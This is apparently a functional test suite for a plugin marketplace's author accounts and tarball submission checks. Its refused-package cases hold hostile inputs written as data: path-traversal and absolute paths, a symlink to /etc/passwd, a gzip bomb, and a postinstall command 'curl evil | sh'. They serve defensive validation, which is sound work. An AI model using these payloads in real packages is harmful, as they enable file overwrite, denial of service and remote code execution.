import { createHash, randomBytes } from 'node:crypto'
import { createGzip, gzipSync } from 'node:zlib'
import { test } from '@japa/runner'
import db from '@adonisjs/lucid/services/db'
import drive from '@adonisjs/drive/services/main'
import { syncFirstPartyPlugins } from '#plugin_host'
import { becomeAuthor } from '#plugin_host/authoring'
import { readTarball, TarballError } from '#plugin_host/tarball'
import { definePlugin } from '#plugin_sdk'
import type User from '#models/user'
import {
  createAdmin,
  createUser,
  platformEvents,
  resetState,
  t,
} from '#tests/functional/platform/helpers'
import {
  clearTarballs,
  manifest,
  packageJson,
  pluginPackage,
  submissionTraces,
  tar,
  tgz,
  type TarEntry,
} from '#tests/functional/plugin_authors/helpers'

const expectStatus = (response: any, status: number) => response.assertStatus(status)

let seq = 0
async function author(name = 'Acme Plugins') {
  const user = await createUser(`author${++seq}@example.test`)
  await becomeAuthor({ userId: user.id, displayName: name })
  return user
}

function submit(client: any, user: User | null, tarball: Buffer, locale = 'en') {
  let request = client
    .post('/authors/plugins/submit')
    .header('host', 'localhost')
    .header('accept-language', locale)
    .file('tarball', tarball, { filename: 'plugin.tgz', contentType: 'application/gzip' })
    .withCsrfToken()
    .redirects(0)
  if (user) request = request.loginAs(user)
  return request
}

async function assertNothingWritten(assert: any) {
  assert.deepEqual(await submissionTraces(), { plugins: 0, versions: 0, files: [] })
  assert.lengthOf(await platformEvents('plugin.version_submitted'), 0)
}

/** gzip of `bytes` zero bytes, produced in slices (the test never holds the inflated data). */
async function gzippedZeros(header: Buffer, bytes: number): Promise<Buffer> {
  const gzip = createGzip({ level: 9 })
  const out: Buffer[] = []
  gzip.on('data', (c: Buffer) => out.push(c))
  const done = new Promise((resolve) => gzip.on('end', resolve))
  gzip.write(header)
  const slice = Buffer.alloc(1024 * 1024)
  for (let written = 0; written < bytes; written += slice.length) {
    if (!gzip.write(slice)) await new Promise((resolve) => gzip.once('drain', resolve))
  }
  gzip.end()
  await done
  return Buffer.concat(out)
}

test.group('plugin authors / accounts', (group) => {
  group.each.setup(async () => {
    await resetState()
    await clearTarballs()
  })

  test('guests are sent to log in; nothing is submitted', async ({ client, assert }) => {
    const page = await client.get('/authors').header('host', 'localhost').redirects(0)
    page.assertStatus(302)
    page.assertHeader('location', '/login')
    const form = await client
      .get('/authors/plugins/submit')
      .header('host', 'localhost')
      .redirects(0)
    form.assertHeader('location', '/login')
    const post = await submit(client, null, tgz(pluginPackage()))
    post.assertStatus(302)
    post.assertHeader('location', '/login')
    await assertNothingWritten(assert)
  })

  test('a signed-in user becomes an author (name 2-80), audited', async ({ client, assert }) => {
    const user = await createUser('writer@example.test')
    const page = await client.get('/authors').header('host', 'localhost').loginAs(user)
    page.assertStatus(200)
    page.assertTextIncludes(t('en', 'plugin_authors.register.title'))

    for (const name of [' x ', 'y'.repeat(81), 'Nul\u0000name']) {
      const bad = await client
        .post('/authors')
        .header('host', 'localhost')
        .header('accept-language', 'zh-CN')
        .loginAs(user)
        .form({ display_name: name })
        .withCsrfToken()
        .redirects(0)
      bad.assertStatus(422)
      bad.assertTextIncludes(
        t('zh-CN', 'plugin_authors.register.invalid_name', { min: 2, max: 80 })
      )
    }
    assert.lengthOf(await db.connection('platform').from('plugin_authors'), 0)

    const ok = await client
      .post('/authors')
      .header('host', 'localhost')
      .loginAs(user)
      .form({ display_name: '  Acme   Plugins ' })
      .withCsrfToken()
      .redirects(0)
    ok.assertStatus(302)
    ok.assertHeader('location', '/authors')
    const rows = await db.connection('platform').from('plugin_authors')
    assert.lengthOf(rows, 1)
    assert.equal(rows[0].display_name, 'Acme Plugins')
    assert.lengthOf(await platformEvents('plugin_author.registered'), 1)

    const after = await client.get('/authors').header('host', 'localhost').loginAs(user)
    after.assertTextIncludes(t('en', 'plugin_authors.author_as', { name: 'Acme Plugins' }))
    after.assertTextIncludes(t('en', 'plugin_authors.none'))
    after.assertTextIncludes('href="/authors/plugins/submit"')
  })

  test('a user who is not an author cannot submit', async ({ client, assert }) => {
    const user = await createUser('plain@example.test')
    const response = await submit(client, user, tgz(pluginPackage()))
    response.assertStatus(403)
    response.assertTextIncludes(t('en', 'plugin_authors.errors.not_author'))
    await assertNothingWritten(assert)
    const form = await client
      .get('/authors/plugins/submit')
      .header('host', 'localhost')
      .loginAs(user)
      .redirects(0)
    form.assertHeader('location', '/authors')
  })

  test('CSRF is enforced on submission', async ({ client, assert }) => {
    const user = await author()
    const response = await client
      .post('/authors/plugins/submit')
      .header('host', 'localhost')
      .loginAs(user)
      .file('tarball', tgz(pluginPackage()), { filename: 'plugin.tgz' })
      .redirects(0)
    // Shield refuses it and sends the browser back; the action never runs.
    response.assertStatus(302)
    assert.notEqual(response.header('location'), '/authors')
    await assertNothingWritten(assert)

    const withToken = await submit(client, user, tgz(pluginPackage()))
    withToken.assertHeader('location', '/authors')
    const traces = await submissionTraces()
    assert.equal(traces.versions, 1)
  })
})

test.group('plugin authors / submission', (group) => {
  group.each.setup(async () => {
    await resetState()
    await clearTarballs()
  })

  test('a good package lands pending, stored, audited, listed for admins and the author', async ({
    client,
    assert,
  }) => {
    const user = await author()
    const tarball = tgz(pluginPackage())
    const response = await submit(client, user, tarball)
    response.assertStatus(302)
    response.assertHeader('location', '/authors')

    const plugin = await db
      .connection('platform')
      .from('plugins')
      .where('id', 'acme-webhook')
      .first()
    assert.isFalse(plugin.first_party)
    assert.equal(Number(plugin.author_user_id), user.id)
    const version = await db
      .connection('platform')
      .from('plugin_versions')
      .where({ plugin_id: 'acme-webhook', version: '1.2.0' })
      .first()
    assert.equal(version.status, 'pending')
    const sha = createHash('sha256').update(tarball).digest('hex')
    assert.equal(version.tarball_sha256, sha)
    assert.equal(Number(version.tarball_bytes), tarball.length)
    assert.equal(version.storage_key, 'plugin-tarballs/acme-webhook/1.2.0.tgz')
    assert.deepEqual(version.manifest, {
      name: 'Acme webhooks',
      description: 'Signed callbacks for paid orders',
      author: 'Acme',
      engine: '^1.0.0',
      permissions: ['orders:read', 'network:outbound'],
      hooks: ['order.paid'],
      capabilities: [],
      settings: {
        endpoint: { type: 'url', label: 'Endpoint', required: true },
        signingKey: { type: 'string', secret: true, label: 'Signing key', minLength: 16 },
      },
    })
    const stored = Buffer.from(await drive.use().getBytes(version.storage_key))
    assert.equal(createHash('sha256').update(stored).digest('hex'), sha)
    const events = await platformEvents('plugin.version_submitted')
    assert.lengthOf(events, 1)
    assert.equal(events[0].actor_type, 'user')

    const admin = await createAdmin()
    const queue = await client
      .get('/admin/plugins')
      .header('host', 'localhost')
      .withGuard('admin')
      .loginAs(admin)
    queue.assertTextIncludes('acme-webhook@1.2.0')
    queue.assertTextIncludes('Acme Plugins')
    queue.assertTextIncludes('sha256 ' + sha)

    const mine = await client.get('/authors').header('host', 'localhost').loginAs(user)
    mine.assertTextIncludes('data-version="acme-webhook@1.2.0"')
    mine.assertTextIncludes(t('en', 'plugin_authors.status.pending'))

    const reject = await client
      .post('/admin/plugins/acme-webhook/review')
      .header('host', 'localhost')
      .withGuard('admin')
      .loginAs(admin)
      .form({ version: '1.2.0', decision: 'rejected', note: 'Sign the payload with HMAC-SHA256' })
      .withCsrfToken()
      .redirects(0)
    reject.assertStatus(302)
    const after = await client
      .get('/authors')
      .header('host', 'localhost')
      .header('accept-language', 'zh-CN')
      .loginAs(user)
    after.assertTextIncludes(t('zh-CN', 'plugin_authors.status.rejected'))
    after.assertTextIncludes('Sign the payload with HMAC-SHA256')
  })

  test('each refused package gives its message and writes nothing', async ({ client, assert }) => {
    const bomb = await gzippedZeros(tar(pluginPackage()).subarray(0, -1024), 25 * 1024 * 1024)
    const manyFiles: TarEntry[] = Array.from({ length: 501 }, (_, i) => ({
      name: `package/f/${i}.js`,
      body: '1',
    }))
    const cases: Array<{
      label: string
      tarball: Buffer
      key: string
      data?: any
      extra?: string[]
    }> = [
      {
        label: 'too big',
        tarball: randomBytes(5 * 1024 * 1024 + 1),
        key: 'too_big',
        data: { compressedMb: 5 },
      },
      { label: 'not gzip', tarball: Buffer.from('PK\u0003\u0004 not a tarball'), key: 'not_gzip' },
      { label: 'not tar', tarball: gzipSync(randomBytes(4096)), key: 'not_tar' },
      {
        label: 'path traversal',
        tarball: tgz(pluginPackage({ extra: [{ name: 'package/../../evil.js', body: 'x' }] })),
        key: 'unsafe_path',
        data: { path: 'package/../../evil.js' },
      },
      {
        label: 'absolute path',
        tarball: tgz(pluginPackage({ extra: [{ name: '/etc/cron.d/evil', body: 'x' }] })),
        key: 'unsafe_path',
        data: { path: '/etc/cron.d/evil' },
      },
      {
        label: 'outside package/',
        tarball: tgz(pluginPackage({ extra: [{ name: 'other/file.js', body: 'x' }] })),
        key: 'outside_package',
        data: { path: 'other/file.js' },
      },
      {
        label: 'symlink',
        tarball: tgz(
          pluginPackage({ extra: [{ name: 'package/link', type: '2', linkname: '/etc/passwd' }] })
        ),
        key: 'link',
        data: { path: 'package/link' },
      },
      {
        label: 'hard link',
        tarball: tgz(
          pluginPackage({
            extra: [{ name: 'package/hard', type: '1', linkname: 'package/README.md' }],
          })
        ),
        key: 'link',
        data: { path: 'package/hard' },
      },
      {
        label: 'device file',
        tarball: tgz(pluginPackage({ extra: [{ name: 'package/dev', type: '3' }] })),
        key: 'special_file',
        data: { path: 'package/dev' },
      },
      {
        label: 'too many files',
        tarball: tgz(pluginPackage({ extra: manyFiles })),
        key: 'too_many_files',
        data: { files: 500 },
      },
      { label: 'zip bomb', tarball: bomb, key: 'unpacked_too_big', data: { unpackedMb: 20 } },
      {
        label: 'install script',
        tarball: tgz(
          pluginPackage({
            packageJson: packageJson({ scripts: { postinstall: 'curl evil | sh' } }),
          })
        ),
        key: 'install_script',
        data: { script: 'postinstall' },
      },
      {
        label: 'prepare script',
        tarball: tgz(pluginPackage({ packageJson: packageJson({ scripts: { prepare: 'x' } }) })),
        key: 'install_script',
        data: { script: 'prepare' },
      },
      {
        label: 'missing package.json',
        tarball: tgz(pluginPackage({ packageJson: null })),
        key: 'no_package_json',
      },
      {
        label: 'invalid package.json',
        tarball: tgz(pluginPackage({ packageJson: '{"version": ' })),
        key: 'package_json_invalid',
      },
      {
        label: 'no entry point',
        tarball: tgz(pluginPackage({ packageJson: packageJson({ main: undefined }) })),
        key: 'no_entry',
      },
      {
        label: 'entry point not in the package',
        tarball: tgz(pluginPackage({ packageJson: packageJson({ main: './dist/missing.js' }) })),
        key: 'entry_missing',
        data: { entry: './dist/missing.js' },
      },
      {
        label: 'missing manifest',
        tarball: tgz(pluginPackage({ manifest: null })),
        key: 'no_manifest',
      },
      {
        label: 'manifest not JSON',
        tarball: tgz(pluginPackage({ manifest: "{ id: 'x' }" })),
        key: 'manifest_json',
      },
      {
        label: 'bad manifest fields',
        tarball: tgz(
          pluginPackage({
            manifest: manifest({
              id: 'Bad_Id',
              permissions: ['network:outbound', 'root:all'],
              hooks: ['order.paid', 'order.exploded'],
              capabilities: ['paymentGateway'],
              settings: { 'Bad-Name': { type: 'file', label: 'x' }, 'ok': { type: 'url' } },
            }),
          })
        ),
        key: 'manifest_invalid',
        extra: [
          'id: lower-case letters',
          'permissions: unknown permission &quot;root:all&quot;',
          'hooks.order.exploded: no such hook',
          'hooks.order.paid: needs the &quot;orders:read&quot; permission',
          'capabilities.paymentGateway: needs the &quot;payments:process&quot; permission',
          'settings.Bad-Name: name must be camelCase',
          'settings.ok.label: required',
        ],
      },
      {
        label: 'NUL in a manifest text',
        tarball: tgz(pluginPackage({ manifest: manifest({ description: 'evil\u0000text' }) })),
        key: 'manifest_invalid',
        extra: ['text must not contain NUL or control characters'],
      },
      {
        label: 'version not written plainly',
        tarball: tgz(
          pluginPackage({
            manifest: manifest({ version: 'v1.2.0' }),
            packageJson: packageJson({ version: 'v1.2.0' }),
          })
        ),
        key: 'manifest_invalid',
        extra: ['version: write it plainly'],
      },
      {
        label: 'version mismatch',
        tarball: tgz(pluginPackage({ manifest: manifest({ version: '1.3.0' }) })),
        key: 'version_mismatch',
        data: { manifest: '1.3.0', package: '1.2.0' },
      },
      {
        label: 'engine mismatch',
        tarball: tgz(pluginPackage({ manifest: manifest({ engine: '^2.0.0' }) })),
        key: 'engine_mismatch',
        data: { range: '^2.0.0', host: '1.0.0' },
      },
    ]
    for (const c of cases) {
      // A fresh author per case: the submission rate limit is per author.
      const user = await author()
      for (const locale of ['en', 'zh-CN'] as const) {
        if (locale === 'zh-CN' && c.key !== 'unsafe_path' && c.key !== 'manifest_invalid') continue
        const response = await submit(client, user, c.tarball, locale)
        assert.equal(response.status(), 422, c.label)
        const message = t(locale, `plugin_authors.errors.${c.key}`, c.data)
        assert.include(
          response.text(),
          message.replaceAll('"', '&quot;').replaceAll("'", '&#39;'),
          c.label
        )
        for (const line of c.extra ?? []) assert.include(response.text(), line, c.label)
      }
      assert.deepEqual(
        await submissionTraces(),
        { plugins: 0, versions: 0, files: [] },
        `${c.label}: nothing written`
      )
      assert.lengthOf(await platformEvents('plugin.version_submitted'), 0, c.label)
    }
  }).timeout(60_000)

  test('an id belongs to its author; first-party ids are never taken', async ({
    client,
    assert,
  }) => {
    await syncFirstPartyPlugins([
      definePlugin({
        id: 'house-plugin',
        name: 'House',
        version: '1.0.0',
        engine: '^1.0.0',
        permissions: [],
      }),
    ])
    const owner = await author('Owner')
    const other = await author('Other')
    expectStatus(await submit(client, owner, tgz(pluginPackage())), 302)
    const before = await submissionTraces()

    const stolen = await submit(
      client,
      other,
      tgz(pluginPackage({ manifest: manifest({ version: '1.2.0' }) }))
    )
    stolen.assertStatus(422)
    stolen.assertTextIncludes(t('en', 'plugin_authors.errors.id_taken', { id: 'acme-webhook' }))

    const house = await submit(
      client,
      other,
      tgz(
        pluginPackage({
          manifest: manifest({ id: 'house-plugin', version: '1.2.0' }),
        })
      )
    )
    house.assertStatus(422)
    house.assertTextIncludes(t('en', 'plugin_authors.errors.first_party', { id: 'house-plugin' }))
    assert.deepEqual(await submissionTraces(), before)
  })

  test('the same version cannot be submitted twice; a new version can', async ({
    client,
    assert,
  }) => {
    const user = await author()
    expectStatus(await submit(client, user, tgz(pluginPackage())), 302)
    const key = 'plugin-tarballs/acme-webhook/1.2.0.tgz'
    const first = Buffer.from(await drive.use().getBytes(key))

    const again = tgz(pluginPackage({ extra: [{ name: 'package/CHANGES.md', body: 'more' }] }))
    const duplicate = await submit(client, user, again)
    duplicate.assertStatus(422)
    duplicate.assertTextIncludes(
      t('en', 'plugin_authors.errors.version_exists', { id: 'acme-webhook', version: '1.2.0' })
    )
    assert.deepEqual(Buffer.from(await drive.use().getBytes(key)), first, 'file not replaced')

    const next = tgz(
      pluginPackage({
        manifest: manifest({ version: '1.3.0' }),
        packageJson: packageJson({ version: '1.3.0' }),
      })
    )
    expectStatus(await submit(client, user, next), 302)
    const traces = await submissionTraces()
    assert.equal(traces.plugins, 1)
    assert.equal(traces.versions, 2)
    assert.sameMembers(traces.files, [key, 'plugin-tarballs/acme-webhook/1.3.0.tgz'])
  })

  test('submissions are rate-limited per author (10 an hour)', async ({ client, assert }) => {
    const user = await author()
    for (let i = 0; i < 10; i++) {
      expectStatus(await submit(client, user, Buffer.from('nope')), 422)
    }
    const blocked = await submit(client, user, tgz(pluginPackage()), 'zh-CN')
    blocked.assertStatus(429)
    assert.include(blocked.text(), t('zh-CN', 'plugin_authors.errors.throttled', { minutes: 60 }))
    await assertNothingWritten(assert)
  })
})

test.group('plugin authors / tar reader', () => {
  test('a gzip bomb stops at the unpacked limit without inflating it', async ({ assert }) => {
    const header = tar([{ name: 'package/zeros.bin', body: '' }]).subarray(0, 512)
    const bomb = await gzippedZeros(header, 512 * 1024 * 1024)
    assert.isBelow(bomb.length, 1024 * 1024)
    const before = process.memoryUsage().rss
    const started = Date.now()
    await assert.rejects(async () => {
      try {
        await readTarball(bomb, [])
      } catch (error) {
        assert.instanceOf(error, TarballError)
        assert.equal((error as TarballError).problem, 'unpacked_too_big')
        throw error
      }
    })
    assert.isBelow(Date.now() - started, 2000)
    assert.isBelow(process.memoryUsage().rss - before, 100 * 1024 * 1024)
  }).timeout(30_000)

  test('reads npm pack layout: pax headers, long names, directories', async ({ assert }) => {
    const long = `package/${'d'.repeat(90)}/${'f'.repeat(60)}.js`
    const pax = (path: string) => {
      const record = (len: number) => `${len} path=${path}\n`
      let len = record(0).length
      while (record(len).length !== len) len = record(len).length
      return record(len)
    }
    const contents = await readTarball(
      tgz([
        { name: 'package', type: '5' },
        { name: 'PaxHeader/x', type: 'x', body: pax('package/pax-named.js') },
        { name: 'package/ignored-name.js', body: 'a' },
        { name: long, body: 'b' },
        { name: 'package/package.json', body: '{}' },
      ]),
      ['package.json']
    )
    assert.sameMembers(
      [...contents.files],
      ['pax-named.js', `${'d'.repeat(90)}/${'f'.repeat(60)}.js`, 'package.json']
    )
    assert.equal(contents.kept.get('package.json')?.toString(), '{}')
    await assert.rejects(() =>
      readTarball(
        tgz([
          { name: 'PaxHeader/x', type: 'x', body: pax('package/../../x.js') },
          { name: 'package/x.js', body: 'a' },
        ]),
        []
      )
    )
  })
})
